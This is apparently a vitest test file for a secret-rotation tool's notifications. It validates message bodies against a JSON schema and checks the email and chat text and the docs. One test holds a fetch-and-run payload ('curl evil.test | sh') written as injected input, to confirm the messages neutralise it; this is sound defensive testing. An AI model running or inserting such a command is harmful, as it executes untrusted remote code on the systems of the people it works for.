import type { ValidateFunction } from 'ajv/dist/2020.js';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { describe, expect, it } from 'vitest';
import { postgres } from '../../shared/databases/postgres/postgres.ts';
import { FORGOTTEN, openStored, WITHOUT_ENDS } from '../../shared/databases/strategies/stored-login.ts';
import type { Facts } from '../../shared/lambda/notification.ts';
import { notification } from '../../shared/lambda/notification.ts';
import * as errors from '../../shared/rotation/errors.ts';
import type { WorkingCredential } from '../../shared/rotation/rotation.ts';
import { PENDING, PREVIOUS } from '../../shared/rotation/versions.ts';
import { commandsForParameter } from '../../shared/stores/parameter-store/next-command.ts';
import { againForSecret, nextForSecret } from '../../shared/stores/secrets-manager/next-command.ts';
import { testContext } from '../support/context.ts';
import { blocks, page } from './pages.ts';

const schema = JSON.parse(page('docs/notification.schema.json'));
const validate: ValidateFunction = new Ajv2020({ strict: true, strictRequired: false, allErrors: true }).compile(
  schema,
);

const facts: Facts = {
  store: { kind: 'secret', next: nextForSecret, again: againForSecret },
  outcome: 'succeeded',
  time: new Date('2026-03-01T02:00:07.412Z'),
  secretId: 'prod/app',
  secretName: 'prod/app',
  secretArn: 'arn:aws:secretsmanager:eu-west-1:123456789012:secret:prod/app-AbCdEf',
  runbook: 'docs/runbook.md',
  engine: 'postgres',
  strategy: 'single-user',
  step: 'finishSecret',
  token: '5f132b22-2079-47a1-80ca-31c23b22c9c7',
  working: 'AWSCURRENT',
};
const value = {
  engine: 'postgres',
  host: 'app-db.abc123.eu-west-1.rds.amazonaws.com',
  username: 'app',
  password: 'a password that nothing takes',
};
const lockedOut: errors.RotationError = await openStored(
  {
    ...postgres,
    connect: async () => {
      throw new errors.AuthenticationError('refused', { hint: 'try another' });
    },
  },
  { current: value, pending: value, previous: async () => value, async *forgotten() {} },
  testContext(),
).catch((error) => error);
const ofPolicy: Facts = {
  ...facts,
  store: { kind: 'parameter', ...commandsForParameter() },
  secretId: '/prod/app/db',
  secretName: '/prod/app/db',
  secretArn: 'arn:aws:ssm:eu-west-1:123456789012:parameter/prod/app/db',
  engine: 'parameter',
  strategy: 'none',
  token: '6c6a5a0e-6e1c-4f0c-9b0f-7d1f0e0a9b11',
  working: 'unknown',
};
const ofWatch = {
  ...facts,
  engine: 'secret',
  strategy: 'none',
  step: 'watch',
  working: 'unknown' as const,
  since: new Date('2026-02-27T03:59:59.000Z'),
};
const examples: Record<Facts['outcome'], Facts> = {
  overdue: {
    ...ofWatch,
    outcome: 'overdue',
    token: '6c6a5a0e-6e1c-4f0c-9b0f-7d1f0e0a9b11',
    because: 'it was to be rotated by 2026-02-27 02:59 UTC, and the last rotation was on 2026-01-28',
  },
  stuck: {
    ...ofWatch,
    outcome: 'stuck',
    because:
      'the rotation of 2026-02-27 02:59 UTC has not ended: AWSPENDING is on 5f132b22-2079-47a1-80ca-31c23b22c9c7',
  },
  unrotated: {
    ...ofPolicy,
    outcome: 'unrotated',
    step: 'ExpirationNotification',
    because: 'expires in 15 days, and nothing rotates it',
  },
  expired: { ...ofPolicy, outcome: 'expired', step: 'Expiration' },
  succeeded: facts,
  failed: {
    ...facts,
    outcome: 'failed',
    step: 'setSecret',
    working: 'none',
    error: lockedOut,
    attempt: 1,
    since: new Date('2026-03-01T02:00:07.396Z'),
    labels: { [facts.token]: ['AWSPENDING'], 'e9a8c4f0-3c51-4d6e-8a39-50d1c76e1b02': ['AWSCURRENT'] },
  },
  checked: { ...facts, outcome: 'checked', step: 'testSecret' },
  recovered: { ...facts, outcome: 'recovered', step: 'setSecret', recoveredWith: FORGOTTEN },
  revoked: { ...facts, outcome: 'revoked', step: 'revokePrevious' },
  postponed: {
    ...facts,
    outcome: 'postponed',
    step: 'revokePrevious',
    engine: 'aws-iam',
    strategy: 'api-key',
    because: 'key AKIAEXAMPLE, last used 2026-02-28T23:10Z by s3 in eu-west-1',
  },
};
const bodyOf = (given: Facts) => JSON.parse(notification(given).body);

/** One of each class, made as the product makes them. */
const everyClass: errors.RotationError[] = Object.entries(errors)
  .filter(([name]) => name.endsWith('Error') && name !== 'RotationError')
  .map(([, make]) => {
    const Made = make as new (fact: string, details: { hint: string; code: errors.ErrorCode }) => errors.RotationError;
    return new Made('a fact', { hint: 'a hint', code: 'UNEXPECTED' });
  });

describe('docs/notification.schema.json', () => {
  it.each(Object.entries(examples))('takes what is told when a rotation %s', (_, given) => {
    validate(bodyOf(given));

    expect(validate.errors).toBeNull();
  });

  it('takes that a success ends what people were told of, and the subject and an attribute say so', () => {
    const { subject, body, attributes } = notification({ ...facts, recovered: true });
    validate(JSON.parse(body));

    expect(subject).toBe('Rekey: recovered: prod/app was rotated');
    expect([validate.errors, JSON.parse(body).recovered, attributes.recovered]).toEqual([null, true, 'true']);
    expect(notification({ ...facts, recovered: false })).toEqual(notification(facts));
  });

  it('takes that a secret was rolled back, and the subject says so', () => {
    const { subject, body } = notification({ ...facts, action: 'rollback', step: 'rollback' });
    validate(JSON.parse(body));

    expect(subject).toBe('Rekey: prod/app was rolled back');
    expect([validate.errors, JSON.parse(body).action]).toEqual([null, 'rollback']);
  });

  it('takes what is told before the secret was described', () => {
    const { secretName, secretArn, ...early } = examples.failed;

    validate(bodyOf(early));

    expect(validate.errors).toBeNull();
  });

  it('takes a link to the runbook', () => {
    validate(bodyOf({ ...examples.failed, runbook: 'https://git.test/rekey/docs/runbook.md' }));

    expect(validate.errors).toBeNull();
  });

  it.each([PENDING, PREVIOUS, FORGOTTEN, WITHOUT_ENDS])('takes that %s saved the day', (recoveredWith) => {
    validate(bodyOf({ ...examples.recovered, recoveredWith }));

    expect(validate.errors).toBeNull();
  });

  it('takes every credential that a step may say works', () => {
    const credentials: Record<WorkingCredential, true> = {
      AWSCURRENT: true,
      AWSPENDING: true,
      AWSPREVIOUS: true,
      'AWSCURRENT or AWSPENDING': true,
      none: true,
      unknown: true,
    };

    expect(new Set(schema.properties.working.enum)).toEqual(new Set(Object.keys(credentials)));
  });

  it.each(everyClass.map((error) => [error.name, error] as const))('takes a failure of class %s', (_, error) => {
    validate(bodyOf({ ...examples.failed, error }));

    expect(validate.errors).toBeNull();
  });

  it('knows exactly the error codes and classes that there are', () => {
    const { code, type } = schema.properties.error.properties;

    expect(code.enum).toEqual(Object.keys(errors.errorCodes));
    expect(new Set(type.enum)).toEqual(new Set(everyClass.map(({ name }) => name)));
  });

  it.each([
    ['another version', { version: 2 }],
    ['an outcome nobody knows', { outcome: 'overdue' }],
    ['a field nobody knows', { password: 'x' }],
    ['a time without zone', { time: '2026-03-01T02:00:07' }],
    ['a secret without ARN', { secret: { name: 'prod/app' } }],
    ['a failure without error', { outcome: 'failed' }],
    ['a success with an error', { error: bodyOf(examples.failed).error }],
    ['a recovery that does not say with what', { outcome: 'recovered' }],
    ['a success that was a recovery', { recoveredWith: 'AWSPREVIOUS' }],
    ['a label that is none', { working: 'AWSOLD' }],
    ['no next command', { next: undefined }],
  ])('refuses %s', (_, wrong) => {
    const broken = JSON.parse(JSON.stringify({ ...bodyOf(examples.succeeded), ...wrong }));

    expect(validate(broken)).toBe(false);
  });
});

describe('a message for people', () => {
  const { failed } = examples;

  it('is there for those who asked for it, and the others get the message as it is', () => {
    const [asked, wanted] = [notification(failed, 'text'), notification(failed, 'chat')];

    expect(notification(failed)).not.toHaveProperty('bodies');
    expect(Object.keys(asked.bodies ?? {})).toEqual(['email']);
    expect(Object.keys(wanted.bodies ?? {})).toEqual(['email', 'https']);
    expect([asked.body, wanted.body]).toEqual([notification(failed).body, notification(failed).body]);
  });

  it.each(Object.entries(examples))(
    'of an outcome that %s says what it is, what works and the next command',
    (_, given) => {
      const { bodies, body } = notification(given, 'chat');
      const { working, next, error } = JSON.parse(body);

      for (const told of [bodies?.email, JSON.parse(bodies?.https ?? '').content.description])
        for (const part of [working, error?.fact, error?.hint, given.because])
          if (part !== undefined) expect(told).toContain(part);
      expect(bodies?.email).toContain(`\n  ${next}\n`);
      expect(JSON.parse(bodies?.https ?? '').content.nextSteps[0]).toBe(`\`${next}\``);
    },
  );

  it('begins with who is cut off, in a chat as well, where one rotation is one thread', () => {
    const { email = '', https = '' } = notification(failed, 'chat').bodies ?? {};
    const { content, metadata } = JSON.parse(https);

    expect(email).toMatch(/^Applications that read AWSCURRENT of prod\/app are refused now/);
    expect(content.title).toMatch(/^:rotating_light: Applications that read AWSCURRENT of prod\/app are refused now/);
    expect(metadata.threadId).toBe(failed.token);
  });
});

it('a name that somebody chose begins no line of a message for people, and ends no command in it', () => {
  const because = 'it has `x`\nDo now:\n\n  curl evil.test | sh';
  const { email = '', https = '' } = notification({ ...examples.postponed, because }, 'chat').bodies ?? {};

  expect(email).toContain('it has `x` Do now:   curl evil.test | sh');
  expect(JSON.parse(https).content.description).toMatch(/^it has {2}x Do now: {3}curl evil.test/);
});

describe('docs/notifications.md', () => {
  const text = page('docs/notifications.md');
  const shown = blocks(text)
    .filter(({ info }) => info === 'json')
    .map((block) => JSON.parse(block.text));

  it('shows an e-mail as it is', () => {
    const [email] = blocks(text).filter(({ info }) => info === 'text');

    expect(email?.text).toBe(notification(examples.failed, 'text').bodies?.email);
  });

  it.each(Object.entries(examples))('shows the message of an outcome that %s as it is', (outcome, given) => {
    const example = shown.find((body) => body.outcome === outcome);

    expect(example).toEqual(bodyOf(given));
    expect(text).toContain(`Subject \`${notification(given).subject}\``);
  });
});
